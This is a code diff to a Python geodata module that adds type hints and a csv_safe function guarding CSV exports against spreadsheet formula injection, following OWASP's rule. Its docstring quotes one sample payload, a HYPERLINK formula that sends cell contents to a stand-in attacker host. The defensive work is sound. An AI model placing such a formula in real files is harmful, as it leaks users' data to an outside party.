@@ -21,7 +21,7 @@ import os
 import secrets
 import tempfile
 import time
-from collections.abc import Mapping
+from collections.abc import Iterator, Mapping
 from pathlib import Path
 from typing import Any
 
@@ -244,7 +244,7 @@ _GPKG_BUILD_CONFIG = {"OGR_SQLITE_JOURNAL": "OFF", "OGR_SQLITE_SYNCHRONOUS": "OF
 
 
 @contextlib.contextmanager
-def _gdal_config(options: Mapping[str, str]):
+def _gdal_config(options: Mapping[str, str]) -> Iterator[None]:
     before = {k: pyogrio.get_gdal_config_option(k) for k in options}
     pyogrio.set_gdal_config_options(dict(options))
     try:
@@ -352,12 +352,56 @@ def simplified_for_web(
     return res
 
 
+#: First characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
+    """Return ``df`` with text cells that a spreadsheet would run as a formula neutralised.
+
+    Names come from OpenStreetMap and user files, which anyone can edit: a district or
+    facility called ``=HYPERLINK("http://evil.example/?"&A1,"x")`` is run by Excel and
+    LibreOffice when the CSV is opened. Following OWASP's rule, every text cell that
+    begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
+    single quote (``'=HYPERLINK(...)``), which spreadsheets show as text. Numbers are
+    left alone (a negative number is not text). GeoJSON and GeoPackage keep the real
+    value; only CSV files (and the app's CSV downloads) are written through this.
+
+    Parameters
+    ----------
+    df : pandas.DataFrame
+        Any table; it is not changed.
+
+    Returns
+    -------
+    pandas.DataFrame
+        A copy when a cell was neutralised, else ``df`` itself.
+    """
+    out = df
+    for col in df.columns:
+        values = df[col]
+        if not (pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values)):
+            continue
+        risky = values.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_START))
+        if risky.any():
+            if out is df:
+                out = df.copy()
+            fixed = values.copy()
+            fixed[risky] = "'" + values[risky].astype(str)
+            out[col] = fixed
+    return out
+
+
 def write_csv(df: pd.DataFrame, path: str | os.PathLike[str]) -> Path:
-    """Write a table as UTF-8 CSV (with BOM, so Excel reads Chinese), atomically."""
+    """Write a table as UTF-8 CSV (with BOM, so Excel reads Chinese), atomically.
+
+    Text cells that a spreadsheet would run as a formula are neutralised
+    (:func:`csv_safe`).
+    """
     if isinstance(df, gpd.GeoDataFrame):
         df = pd.DataFrame(df.drop(columns=df.geometry.name))
     with _atomic.atomic_path(path) as tmp:
-        df.to_csv(tmp, index=False, encoding="utf-8-sig")
+        csv_safe(df).to_csv(tmp, index=False, encoding="utf-8-sig")
     return Path(path)
 
 
